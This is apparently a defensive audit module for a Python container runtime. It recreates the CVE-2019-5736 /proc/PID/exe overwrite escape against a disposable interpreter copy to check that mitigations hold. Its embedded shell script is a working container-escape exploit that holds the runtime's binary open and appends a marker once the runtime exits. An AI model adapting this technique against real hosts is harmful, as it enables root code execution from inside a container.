"""Overwriting the runtime through /proc/PID/exe (CVE-2019-5736), on a throw-away interpreter.

/proc/PID/exe is a magic link to the program a process runs: opened, it gives the file itself,
wherever it lies, past every root. runc's `runc init` was runc's own binary, running inside the
container's namespaces until it exec'd the command; a container could open /proc/PID/exe of a
`runc exec` joining it, keep the descriptor, and once runc had ended (the kernel refuses to
write a program while any process runs it: ETXTBSY) reopen it for writing through
/proc/self/fd/N and put its own code in the host's runc, which the host ran as root next time.
runc's fix: `runc init` runs from a sealed memfd copy of itself, never the file on disk.

What holds for pycontain (the interpreter is the runtime's binary: init is `python -I -S`):

- `pycontain run`: init exec()s the command, so from the command's first instruction
  /proc/1/exe is the container's own program (busybox). The process that started init (the
  runtime, still the interpreter) is outside the PID namespace: no /proc entry names it.
- `--init`: PID 1 stays the interpreter. The container can open /proc/1/exe, but never for
  writing (ETXTBSY while PID 1 runs), and PID 1 outlives every process in its namespace: when it
  ends the kernel kills them all, so none is left to write the file afterwards.
- without a PID namespace the container sees the runtime's process; with the capabilities
  dropped /proc/PID/exe of that process is refused (ptrace's access check: the container's
  capabilities are not a subset of the runtime's); with every capability it is opened, kept,
  and written once the runtime has ended. That is the weakened container here.
- `pycontain exec` (nsenter): the joining process runs the interpreter inside the container's
  PID namespace until it exec()s; it is made non-dumpable first (PR_SET_DUMPABLE 0, runc's
  nsexec does the same), so that /proc/PID/exe of it is refused to the container in that window
  (`nsenter.start`).

`attempt` never goes near the real interpreter: it copies it into a `pycontain-` temp dir
(`throwaway_interpreter`), runs the runtime with that copy, and lets the container try to
append a line to the copy.

See also: proc(5) (/proc/pid/exe), ptrace(2) ("Ptrace access mode checking"), execve(2)
(ETXTBSY), prctl(2) (PR_SET_DUMPABLE), memfd_create(2); CVE-2019-5736, runc GHSA-gxmr-w5mj-v8hh.
"""

from __future__ import annotations

import json
import os
import select
import shutil
import subprocess
import sys
from typing import Any

from pycontain import PACKAGE_PARENT
from pycontain.audit.outcome import Outcome
from pycontain.errors import PycontainError
from pycontain.fs import rootfs

#: the weakened container's view of the host's processes: no PID namespace of its own, and the
#: host's /proc bound in (as a monitoring agent's `-v /proc:/host/proc:ro`)
HOST_PIDS = {"namespaces": "mnt,uts,ipc,net", "volumes": ["/proc:/host/proc:ro"]}
#: what the container appends to the runtime's binary when it can
PAYLOAD = b"#pycontain-overwritten\n"

#: the container's command: find the runtime's program, open it, hold it, write it when free
SCRIPT = r"""
if [ -d /host/proc/self ]; then P=/host/proc; else P=/proc; fi
while read -r key value; do [ "$key" = PPid: ] && p=$value; done < $P/self/status
[ "$p" -gt 0 ] || { P=/proc; p=1; }
t=$P/$p/exe
echo "target: $t -> $(readlink $t 2>&1)"
exec 3< $t || exit 3
echo "opened $t for reading"
(exec 4>> $t) 2>&1 | sed 's/^/now: /'
setsid sh -c 'i=0; while [ -e '$P/$p' ] && [ $i -lt 500 ]; do usleep 20000; i=$((i+1)); done
  echo "#pycontain-overwritten" >> '$P'/self/fd/3' </dev/null >/dev/null 2>&1 &
echo "holder $!"
"""

def throwaway_interpreter(directory: str | os.PathLike[str]) -> str:
    """A copy of this host's interpreter in `directory`/bin, with `directory`/lib leading to its
    library (sys.base_prefix/lib), so that the copy finds its standard library and libpython
    as the original does; the path of the copy."""
    real = os.path.realpath(sys.executable)
    os.makedirs(os.path.join(directory, "bin"))
    copy = os.path.join(directory, "bin", "python3")
    shutil.copy2(real, copy)
    os.symlink(os.path.join(os.path.realpath(sys.base_prefix), "lib"),
               os.path.join(directory, "lib"))
    return copy


def attempt(directory: str | os.PathLike[str], *, weakened: bool, timeout_s: float = 20.0,
            **options: Any) -> Outcome:
    """Run a container on the embedded rootfs with `options`, started by a runtime that is a
    throw-away copy of the interpreter in `directory`, and see whether the copy was written."""
    copy = throwaway_interpreter(os.fspath(directory))
    with open(copy, "rb") as f:
        before = f.read()
    wire = {k: sorted(v) if isinstance(v, (set, frozenset)) else v for k, v in options.items()}
    runtime_side = subprocess.run(
        [copy, "-I", "-S", "-c", f"import sys;sys.path.append({PACKAGE_PARENT!r});"
         "from pycontain.audit.self_exe import _run;_run(sys.argv[1])", json.dumps(wire)],
        capture_output=True, text=True, timeout=timeout_s)
    if runtime_side.returncode != 0:
        raise PycontainError(f"the runtime (the copy) failed: {runtime_side.stderr[-400:]}")
    said = runtime_side.stdout.splitlines()
    holder = next((int(line.split()[1]) for line in said if line.startswith("holder ")), None)
    shares_pids = "namespaces" in options and "pid" not in options["namespaces"]
    if holder is not None and shares_pids:
        _wait_gone(holder, timeout_s)  # the host's pid: the container shares the host's
    with open(copy, "rb") as f:
        after = f.read()
    escaped = after != before
    shown = [line for line in said if not line.startswith("holder ")]
    return Outcome("/proc/self/exe", weakened, escaped,
                   " / ".join(shown + ([f"the runtime's binary now ends with "
                                        f"{after[-len(PAYLOAD):]!r}"] if escaped else [])))


def _run(wire: str) -> None:
    """The runtime's side, in the copy: run the container and print what it said."""
    from pycontain import runtime

    result = runtime.run(["sh", "-c", SCRIPT], rootfs=rootfs.ensure(), overlay=True,
                         timeout_s=20.0, **json.loads(wire))
    print(result.stdout.strip())
    if result.stderr.strip():
        print(result.stderr.strip().replace("\n", " / "))


def _wait_gone(pid: int, timeout_s: float) -> None:
    """Wait until the process `pid` has ended (its pidfd turns readable), at most `timeout_s`."""
    try:
        fd = os.pidfd_open(pid)
    except ProcessLookupError:
        return
    try:
        select.select([fd], [], [], timeout_s)
    finally:
        os.close(fd)
